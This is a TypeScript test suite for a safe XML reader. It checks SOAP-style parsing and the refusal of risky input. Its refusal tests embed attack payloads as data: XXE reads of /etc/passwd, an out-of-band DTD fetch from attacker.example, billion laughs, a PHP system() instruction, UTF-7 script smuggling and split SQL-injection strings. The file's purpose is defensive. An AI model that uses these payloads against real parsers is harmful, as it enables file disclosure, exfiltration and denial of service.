import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { DEFAULT_XML_LIMITS, readXml, type XmlResult } from './xml.js';

type Leaves = Extract<XmlResult, { ok: true }>['leaves'];

function read(text: string, limits = DEFAULT_XML_LIMITS): Leaves {
  const r = readXml(text, limits);
  assert.ok(r.ok, `refused: ${r.ok ? '' : r.reason}`);
  return r.leaves;
}

function refused(text: string, limits = DEFAULT_XML_LIMITS): string {
  const r = readXml(text, limits);
  assert.equal(r.ok, false, `accepted ${text.slice(0, 200)}`);
  return r.ok ? '' : r.reason;
}

/** The leaves as `path = text` lines, names and values alike. */
function lines(text: string): string[] {
  return read(text).map((l) => `${l.path.join('/')} = ${l.text}`);
}

/** The text of the leaf at `path`. */
function at(text: string, ...path: string[]): string | undefined {
  return read(text).find((l) => l.path.join('\0') === path.join('\0'))?.text;
}

describe('reading an XML body', () => {
  it('reads a SOAP-ish document into element names, attributes and texts', () => {
    const soap = `<?xml version="1.0" encoding="UTF-8"?>
<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/" xmlns:m="urn:orders">
  <soap:Header>
    <m:Auth token="t0k3n"/>
  </soap:Header>
  <soap:Body>
    <m:GetOrder id="1001" currency='EUR'>
      <m:Note>Ship to O&apos;Brien &amp; sons</m:Note>
      <m:Query><![CDATA[select * where a < b]]></m:Query>
    </m:GetOrder>
  </soap:Body>
</soap:Envelope>
`;
    assert.deepEqual(lines(soap), [
      'soap:Envelope/#name = soap:Envelope',
      'soap:Envelope/@xmlns:soap/#name = xmlns:soap',
      'soap:Envelope/@xmlns:soap = http://schemas.xmlsoap.org/soap/envelope/',
      'soap:Envelope/@xmlns:m/#name = xmlns:m',
      'soap:Envelope/@xmlns:m = urn:orders',
      'soap:Envelope/soap:Header/#name = soap:Header',
      'soap:Envelope/soap:Header/m:Auth/#name = m:Auth',
      'soap:Envelope/soap:Header/m:Auth/@token/#name = token',
      'soap:Envelope/soap:Header/m:Auth/@token = t0k3n',
      'soap:Envelope/soap:Body/#name = soap:Body',
      'soap:Envelope/soap:Body/m:GetOrder/#name = m:GetOrder',
      'soap:Envelope/soap:Body/m:GetOrder/@id/#name = id',
      'soap:Envelope/soap:Body/m:GetOrder/@id = 1001',
      'soap:Envelope/soap:Body/m:GetOrder/@currency/#name = currency',
      'soap:Envelope/soap:Body/m:GetOrder/@currency = EUR',
      'soap:Envelope/soap:Body/m:GetOrder/m:Note/#name = m:Note',
      "soap:Envelope/soap:Body/m:GetOrder/m:Note = Ship to O'Brien & sons",
      'soap:Envelope/soap:Body/m:GetOrder/m:Query/#name = m:Query',
      'soap:Envelope/soap:Body/m:GetOrder/m:Query = select * where a < b',
    ]);
  });

  it('decodes the predefined entities and character references, and leaves CDATA as written', () => {
    assert.equal(at('<a>&lt;&gt;&amp;&apos;&quot;</a>', 'a'), `<>&'"`);
    assert.equal(at('<a>&#39;&#x27;&#0000065;&#x1F600;</a>', 'a'), "''A😀");
    assert.equal(at('<a><![CDATA[&lt;b&gt; <c> ]] ]>]]></a>', 'a'), '&lt;b&gt; <c> ]] ]>');
    assert.equal(at('<a x="&lt;&#x27;"/>', 'a', '@x'), "<'");
  });

  it('reads attributes in either quotes, with spaces around `=`, normalising literal whitespace', () => {
    const leaves = read(`<a one = "1"\ttwo='it"s'\nthree="x\ty\nz&#10;"/>`);
    assert.deepEqual(
      leaves.filter((l) => l.path.at(-1) !== '#name').map((l) => [l.path.join('/'), l.text]),
      [
        ['a/@one', '1'],
        ['a/@two', 'it"s'],
        ['a/@three', 'x y z\n'],
      ],
    );
  });

  it("joins an element's own text across comments, CDATA and children, so a split payload is seen whole", () => {
    assert.equal(at(`<q>x' OR <!-- -->'1'='1</q>`, 'q'), "x' OR '1'='1");
    assert.equal(at(`<q>x' OR <![CDATA['1']]>='1'</q>`, 'q'), "x' OR '1'='1'");
    assert.equal(at(`<q>&lt;scr<b>bold</b>ipt&gt;</q>`, 'q'), '<script>');
    assert.equal(at(`<q>&lt;scr<b>bold</b>ipt&gt;</q>`, 'q', 'b'), 'bold');
  });

  it('leaves out whitespace-only text, normalises line ends and accepts a byte order mark', () => {
    assert.deepEqual(lines('\uFEFF<a>\r\n  <b>x\r\ny\rz</b>\n</a>\n<!-- after -->\n'), [
      'a/#name = a',
      'a/b/#name = b',
      'a/b = x\ny\nz',
    ]);
  });

  it('accepts an XML declaration without an encoding, or with standalone', () => {
    read("<?xml version='1.0'?><a/>");
    read('<?xml version="1.0" encoding="utf-8" standalone="yes" ?><a/>');
  });
});

describe('refusing XML that is risky or malformed', () => {
  it('refuses an external entity (XXE)', () => {
    const xxe = `<?xml version="1.0"?>
<!DOCTYPE foo [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
<foo>&xxe;</foo>`;
    assert.match(refused(xxe), /DOCTYPE/);
    assert.match(refused('<!DOCTYPE foo SYSTEM "http://attacker.example/evil.dtd"><foo/>'), /DOCTYPE/);
  });

  it('refuses a parameter entity (out-of-band XXE)', () => {
    const oob = `<!DOCTYPE data [
  <!ENTITY % file SYSTEM "file:///etc/hostname">
  <!ENTITY % dtd SYSTEM "http://attacker.example/evil.dtd">
  %dtd;
]>
<data>&send;</data>`;
    assert.match(refused(oob), /DOCTYPE/);
  });

  it('refuses billion laughs', () => {
    const lol = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<lolz>&lol3;</lolz>`;
    assert.match(refused(lol), /DOCTYPE/);
  });

  it('refuses entity references that only a DTD could define, even without one', () => {
    assert.match(refused('<foo>&xxe;</foo>'), /entity reference/);
    assert.match(refused('<foo a="&lol;"/>'), /entity reference/);
    // Names an object literal would find on its prototype.
    assert.match(refused('<foo>&constructor;</foo>'), /entity reference/);
    assert.match(refused('<foo>%dtd;&#x25;dtd;&dtd;</foo>'), /entity reference/);
  });

  it('refuses a bare ampersand and bad character references', () => {
    refused('<a>fish & chips</a>');
    refused('<a>&amp</a>');
    refused('<a>&#0;</a>');
    refused('<a>&#xD800;</a>');
    refused('<a>&#x110000;</a>');
    refused('<a>&#X41;</a>');
    refused('<a>&#;</a>');
    refused(`<a>&#${'0'.repeat(40)}65;</a>`);
  });

  it('refuses processing instructions other than the XML declaration at the start', () => {
    assert.match(refused('<?xml-stylesheet href="x.xsl"?><a/>'), /processing instruction/);
    assert.match(refused('<a><?php system("id"); ?></a>'), /processing instruction/);
    refused(' <?xml version="1.0"?><a/>');
    refused('<a/><?xml version="1.0"?>');
  });

  it('refuses an XML declaration of another version or encoding', () => {
    refused('<?xml version="1.1"?><a/>');
    assert.match(refused('<?xml version="1.0" encoding="UTF-7"?><a>+ADw-script+AD4-</a>'), /encoding/);
    refused('<?xml version="1.0" encoding="ISO-8859-1"?><a/>');
    refused('<?xml encoding="UTF-8"?><a/>');
  });

  it('refuses mismatched, unbalanced and unclosed tags', () => {
    assert.match(refused('<a><b></a></b>'), /mismatched/);
    assert.match(refused('<a></b>'), /mismatched/);
    assert.match(refused('<a><b></b>'), /unclosed/);
    assert.match(refused('</a>'), /mismatched/);
    refused('<a>');
    refused('<a');
    refused('<a x="1"');
    refused('<a/><b/>');
    refused('');
    refused('   ');
    refused('just text');
    refused('<a/>trailing');
  });

  it('refuses deep nesting and too many nodes', () => {
    const deep = (n: number) => '<a>'.repeat(n) + '</a>'.repeat(n);
    read(deep(32));
    assert.match(refused(deep(33)), /deep/);
    assert.match(refused(deep(100_000)), /deep/);
    assert.match(refused(deep(5), { maxDepth: 4, maxNodes: 100 }), /deep/);
    const wide = (n: number) => `<r>${'<i/>'.repeat(n - 1)}</r>`;
    read(wide(100), { maxDepth: 4, maxNodes: 100 });
    assert.match(refused(wide(101), { maxDepth: 4, maxNodes: 100 }), /too many/);
    assert.match(
      refused(`<r ${Array.from({ length: 100 }, (_, i) => `a${i}="1"`).join(' ')}/>`, {
        maxDepth: 4,
        maxNodes: 100,
      }),
      /too many/,
    );
  });

  it('refuses other malformed input', () => {
    refused('<a x="1" x="2"/>');
    refused('<a x="1"y="2"/>');
    refused('<a x=1/>');
    refused('<a x="<"/>');
    refused('<a>]]></a>');
    refused('<a><!-- a -- b --></a>');
    refused('<a><!-- a ---></a>');
    refused('<a><!-- unclosed</a>');
    refused('<a><![CDATA[ unclosed</a>');
    refused('<![CDATA[x]]><a/>');
    refused('<a><!ELEMENT a ANY></a>');
    refused('<1a/>');
    refused('< a/>');
    refused('<a>\u0000</a>');
    refused('<a>\u0001</a>');
    refused('<a>\uD800</a>');
    refused('<a>\uFFFF</a>');
  });

  it('reads pathological input in linear time', () => {
    // Quadratic work on any of these would take minutes: the bound is loose on purpose.
    const size = 200_000;
    const cases = [
      `<a>${'&'.repeat(size)}</a>`,
      `<a>${'&lt;'.repeat(size / 4)}</a>`,
      `<a x="${'a'.repeat(size)}"/>`,
      `<a>${'<!---->'.repeat(size / 7)}</a>`,
      `<a>${'-'.repeat(size)}`,
      `<a>${'<b>x</b>'.repeat(size / 8)}</a>`,
      `<?xml version="1.0"${' '.repeat(size)}`,
    ];
    for (const text of cases) {
      const started = performance.now();
      readXml(text, { maxDepth: 32, maxNodes: 1_000_000 });
      assert.ok(performance.now() - started < 5000, text.slice(0, 40));
    }
  });
});
